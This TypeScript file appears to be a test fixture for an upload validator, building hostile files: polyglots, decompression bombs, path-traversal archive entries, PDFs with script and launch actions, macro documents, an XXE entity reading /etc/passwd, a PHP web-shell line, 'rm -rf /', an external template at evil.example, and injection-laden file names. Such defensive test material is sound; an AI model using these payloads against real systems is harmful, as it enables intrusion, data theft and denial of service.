import { crc32, deflateSync } from 'node:zlib';
import sharp, { type SharpOptions } from 'sharp';
import { exampleDoc, exampleDocx, examplePdf, exampleZip, wordEntries } from './example-files.ts';

/** A hostile file: its real kind, the name and type it claims, and its bytes. */
export type HostileFile = { is: string; name: string; bytes: Buffer };

/** Stands in every hidden part; it must never be served. */
export const canary = '<script>canary()</script>';

const script = Buffer.from(canary);
const zeros = (length: number) => Buffer.alloc(length);
const bytesOf = (text: string) => Buffer.from(text, 'latin1');

/** Files that are of no kind we take, whatever they are called. */
export const foreignFiles: readonly HostileFile[] = [
  ['nothing', 'a.pdf', zeros(0)],
  ['one byte', 'a.pdf', zeros(1)],
  ['zeros', 'a.pdf', zeros(5_000)],
  ['text', 'a.pdf', Buffer.from('Dear staff, please find attached')],
  ['a web page', 'a.pdf', Buffer.from(`<!doctype html><title>x</title>${canary}`)],
  ['a web page with a byte order mark', 'a.jpg', Buffer.from(`\ufeff<html>${canary}</html>`)],
  ['a web page in UTF-16', 'a.jpg', Buffer.from(`\ufeff<html>${canary}</html>`, 'utf16le')],
  ['a drawing with a script', 'a.png', Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg">${canary}</svg>`)],
  ['a drawing that fetches', 'a.png', Buffer.from('<svg><image href="file:///etc/passwd"/></svg>')],
  ['XML with an entity', 'a.docx', Buffer.from('<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>')],
  ['a script', 'a.pdf', Buffer.from('alert(1)//')],
  ['a shell script', 'a.doc', Buffer.from('#!/bin/sh\nrm -rf /')],
  ['PHP', 'a.jpg', Buffer.from('<?php system($_GET["c"]); ?>')],
  ['a program', 'a.doc', bytesOf('MZ\x90\0\x03\0\0\0')],
  ['a program of Linux', 'a.pdf', bytesOf('\x7fELF\x02\x01\x01')],
  ['a program of a Mac', 'a.pdf', bytesOf('\xcf\xfa\xed\xfe\x07\0\0\x01')],
  ['Java', 'a.pdf', bytesOf('\xca\xfe\xba\xbe\0\0\0\x34')],
  ['WebAssembly', 'a.png', bytesOf('\0asm\x01\0\0\0')],
  ['PostScript', 'a.pdf', Buffer.from('%!PS-Adobe-3.0\n(%%EOF) run')],
  ['ImageMagick’s own words', 'a.jpg', Buffer.from('push graphic-context\nfill "url(https://x/|ls)"')],
  ['a TIFF', 'a.jpg', bytesOf('II*\0\x08\0\0\0')],
  ['a bitmap', 'a.png', bytesOf('BM\x3a\0\0\0\0\0\0\0')],
  ['an icon', 'a.png', bytesOf('\0\0\x01\0\x01\0\x10\x10')],
  ['an AVIF', 'a.jpg', bytesOf('\0\0\0\x20ftypavif\0\0\0\0avifmif1')],
  ['a film', 'a.gif', bytesOf('\0\0\0\x20ftypisom\0\0\x02\0isomiso2')],
  ['a gzip', 'a.docx', bytesOf('\x1f\x8b\x08\0\0\0\0\0')],
  ['a RAR', 'a.docx', bytesOf('Rar!\x1a\x07\x01\0')],
  ['a shortcut', 'a.pdf', bytesOf('L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0')],
  ['rich text', 'a.doc', Buffer.from('{\\rtf1\\ansi\\object\\objdata}')],
].map(([is, name, bytes]) => ({ is, name, bytes }) as HostileFile);

/** A document that refers to a template elsewhere behind a name of a million letters, each of which may begin one. */
function docxOfEndlessName(): Buffer {
  const template = 'Type="/attachedTemplate" Target="https://evil.example/x.dotm" TargetMode="External"';
  const bytes = Buffer.from(`<Relationship ${'a'.repeat(1_000_000)} ${template}/>`);
  return exampleDocx([{ name: 'a.rels', bytes, isStored: true }]);
}

/** A PDF of objects each of which says that others are packed in it, with nothing that ends their streams. */
function pdfOfPackedObjects(count: number): Buffer {
  const object = Buffer.concat([bytesOf('obj<</Filter/Fl/ObjStm 0>>stream\n'), deflateSync(zeros(0))]);
  return Buffer.concat([bytesOf('%PDF-1.7\n'), ...Array<Buffer>(count).fill(object), bytesOf('\n%%EOF\n')]);
}

/** Documents that are broken, or are more than a document. */
export const hostileDocuments: readonly HostileFile[] = [
  ['a PDF behind a web page', 'a.pdf', Buffer.concat([script, examplePdf()])],
  ['a web page behind a PDF', 'a.pdf', Buffer.concat([examplePdf(), zeros(2_000), script])],
  [
    'an archive behind a PDF',
    'a.pdf',
    Buffer.concat([examplePdf(), exampleZip([{ name: 'x', bytes: zeros(3_000) }]), zeros(2_000)]),
  ],
  ['half a PDF', 'a.pdf', examplePdf().subarray(0, 60)],
  ['a PDF that runs a script', 'a.pdf', examplePdf(') /S /JavaScript /JS (app.alert(1)')],
  ['a PDF of nothing but packed objects', 'a.pdf', pdfOfPackedObjects(100_000)],
  ['a PDF that starts a program', 'a.pdf', examplePdf(') /S /Launch /F (cmd.exe')],
  ['a spreadsheet of old', 'a.doc', exampleDoc(['Root Entry', 'Workbook'])],
  ['an installer', 'a.doc', exampleDoc(['Root Entry', '\u0005SummaryInformation'])],
  ['a document of old with macros', 'a.doc', exampleDoc(['Root Entry', 'WordDocument', '_VBA_PROJECT'])],
  ['half a document of old', 'a.doc', exampleDoc().subarray(0, 300)],
  ['a plain archive', 'a.docx', exampleZip([{ name: 'a.txt' }])],
  ['an empty archive', 'a.docx', exampleZip([])],
  ['a program in an archive', 'a.docx', exampleZip([{ name: 'META-INF/MANIFEST.MF' }, { name: 'A.class' }])],
  ['a spreadsheet', 'a.docx', exampleZip([...wordEntries('application/vnd.ms-excel'), { name: 'xl/workbook.xml' }])],
  [
    'a document that says it has macros',
    'a.docx',
    exampleZip(wordEntries('application/vnd.ms-word.document.macroEnabled.main+xml')),
  ],
  ['a document with macros', 'a.docx', exampleDocx([{ name: 'word/vbaProject.bin' }])],
  ['a document with macros elsewhere', 'a.docx', exampleDocx([{ name: 'custom/VBAPROJECT.BIN' }])],
  ['a document with an endless name', 'a.docx', docxOfEndlessName()],
  ['a document with a program', 'a.docx', exampleDocx([{ name: 'word/embeddings/setup.exe' }])],
  ['a document without its types', 'a.docx', exampleZip(wordEntries().slice(1))],
  ['a document without a text', 'a.docx', exampleZip(wordEntries().slice(0, 1))],
  [
    'types that are a bomb',
    'a.docx',
    exampleZip([{ name: '[Content_Types].xml', bytes: zeros(30_000_000) }, ...wordEntries().slice(1)]),
  ],
  ['a path that climbs out', 'a.docx', exampleDocx([{ name: '../../etc/passwd' }])],
  ['a path that climbs out within', 'a.docx', exampleDocx([{ name: 'word/../../x' }])],
  ['a path of Windows', 'a.docx', exampleDocx([{ name: 'word\\..\\x' }])],
  ['an absolute path', 'a.docx', exampleDocx([{ name: '/etc/passwd' }])],
  ['a path with a drive', 'a.docx', exampleDocx([{ name: 'C:x' }])],
  ['a path with a NUL', 'a.docx', exampleDocx([{ name: 'word/a\0.xml' }])],
  ['a name given twice', 'a.docx', exampleDocx([{ name: 'word/document.xml' }])],
  [
    'a name that differs in its heading',
    'a.docx',
    exampleDocx([{ name: 'word/a.xml', claims: { localName: 'word/b.xml' } }]),
  ],
  ['an encrypted entry', 'a.docx', exampleDocx([{ name: 'word/a.xml', claims: { flags: 1 } }])],
  ['an unknown way of packing', 'a.docx', exampleDocx([{ name: 'word/a.xml', claims: { method: 99 } }])],
  ['a bomb', 'a.docx', exampleDocx([{ name: 'word/a.xml', bytes: zeros(20_000_000) }])],
  [
    'many small bombs',
    'a.docx',
    exampleDocx(Array.from({ length: 30 }, (_, number) => ({ name: `word/${number}`, bytes: zeros(500_000) }))),
  ],
  ['a bomb by its own word', 'a.docx', exampleDocx([{ name: 'word/a.xml', claims: { unpackedBytes: 4_000_000_000 } }])],
  [
    'a size that stands elsewhere',
    'a.docx',
    exampleDocx([{ name: 'word/a.xml', claims: { unpackedBytes: 0xffffffff } }]),
  ],
  ['entries that share their bytes', 'a.docx', exampleDocx([{ name: '[Content_Types].xml', claims: { offset: 0 } }])],
  ['an entry that lies nowhere', 'a.docx', exampleDocx([{ name: 'word/a.xml', claims: { offset: 0xfffffff0 } }])],
  [
    'a thousand and one entries',
    'a.docx',
    exampleDocx(Array.from({ length: 1_000 }, (_, number) => ({ name: `word/${number}` }))),
  ],
  ['half a document', 'a.docx', exampleDocx().subarray(0, 120)],
  ['a document behind a web page', 'a.docx', Buffer.concat([script, exampleDocx()])],
  ['a web page behind a document', 'a.docx', Buffer.concat([exampleDocx(), script])],
].map(([is, name, bytes]) => ({ is, name, bytes }) as HostileFile);

export function chunkOfPng(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type), data]);
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(data.length);
  sum.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, sum]);
}

/** A PNG of a single colour that says it is so large; a few kilobytes become gigabytes when it is opened. */
function pngOf(width: number, height: number, packed: Buffer): Buffer {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head[8] = 1;
  return Buffer.concat([
    bytesOf('\x89PNG\r\n\x1a\n'),
    chunkOfPng('IHDR', head),
    chunkOfPng('IDAT', packed),
    chunkOfPng('IEND', zeros(0)),
  ]);
}

/** A picture cut off after this part of it. */
const cut = (bytes: Buffer, part: number) => bytes.subarray(0, Math.floor(bytes.length * part));

/** Pictures that cannot be opened safely, and pictures in which something is hidden. */
export async function makeHostilePictures(): Promise<{ unreadable: HostileFile[]; hiding: HostileFile[] }> {
  const noise = { create: { width: 300, height: 200, channels: 3, noise: { type: 'gaussian', mean: 128, sigma: 60 } } };
  const picture = sharp(noise as SharpOptions);
  const [jpeg, png, gif, webp, tagged] = await Promise.all([
    picture.clone().jpeg().toBuffer(),
    picture.clone().png().toBuffer(),
    picture.clone().gif().toBuffer(),
    picture.clone().webp().toBuffer(),
    picture
      .clone()
      .withExif({ IFD0: { Copyright: canary }, IFD3: { GPSLatitudeRef: 'S', GPSLatitude: '1/1 57/1 0/1' } })
      .jpeg()
      .toBuffer(),
  ]);
  const side = 16_000;
  const bomb = pngOf(side, side, deflateSync(zeros((side / 8 + 1) * side)));
  const wrong = Buffer.from(png);
  wrong[40] = (wrong[40] ?? 0) ^ 0xff;
  const named = (is: string, name: string, bytes: Buffer): HostileFile => ({ is, name, bytes });
  return {
    unreadable: [
      named('a picture that is a bomb', 'a.png', bomb),
      named('a picture that says it is endless', 'a.png', pngOf(2_000_000_000, 2_000_000_000, deflateSync(zeros(10)))),
      named('a picture of no size', 'a.png', pngOf(0, 0, deflateSync(zeros(1)))),
      named('half a PNG', 'a.png', cut(png, 0.5)),
      named('a PNG of wrong sums', 'a.png', wrong),
      named('half a JPEG', 'a.jpg', cut(jpeg, 0.5)),
      named('the beginning of a JPEG', 'a.jpg', jpeg.subarray(0, 20)),
      named('a web page that begins like a JPEG', 'a.jpg', Buffer.concat([bytesOf('\xff\xd8\xff\xe0'), script])),
      named('a web page that begins like a PNG', 'a.png', Buffer.concat([png.subarray(0, 33), script])),
    ],
    hiding: [
      named('a JPEG before a web page', 'a.jpg', Buffer.concat([jpeg, script])),
      named(
        'a JPEG before an archive',
        'a.jpg',
        Buffer.concat([jpeg, exampleZip([{ name: 'x', bytes: script }]), script]),
      ),
      named('a JPEG that tells where the house is', 'a.jpg', tagged),
      named('a PNG before a web page', 'a.png', Buffer.concat([png, script])),
      named(
        'a PNG with words in it',
        'a.png',
        Buffer.concat([png.subarray(0, 33), chunkOfPng('tEXt', Buffer.from(`Comment\0${canary}`)), png.subarray(33)]),
      ),
      named('a JPEG called a web page', 'a.html', Buffer.concat([jpeg, script])),
      named('a PNG called a program', 'a.png.exe', Buffer.concat([png, script])),
      named('a GIF before a web page', 'a.gif', Buffer.concat([gif, script])),
      named('a WebP before a web page', 'a.webp', Buffer.concat([webp, script])),
    ],
  };
}

/** Names that lead somewhere else where they are taken for paths. */
export const hostileNames = [
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '/etc/cron.d/x',
  'C:\\boot.ini',
  'licence.pdf\0.html',
  'licence.pdf\r\nSet-Cookie: a=b',
  "\"; filename*=UTF-8''x.html",
  'licence\u202efdp.exe',
  '<img src=x onerror=canary()>.pdf',
  '.htaccess',
  'CON',
  `${'x'.repeat(5_000)}.pdf`,
  '%2e%2e%2fpasswd',
  '....//....//passwd',
];
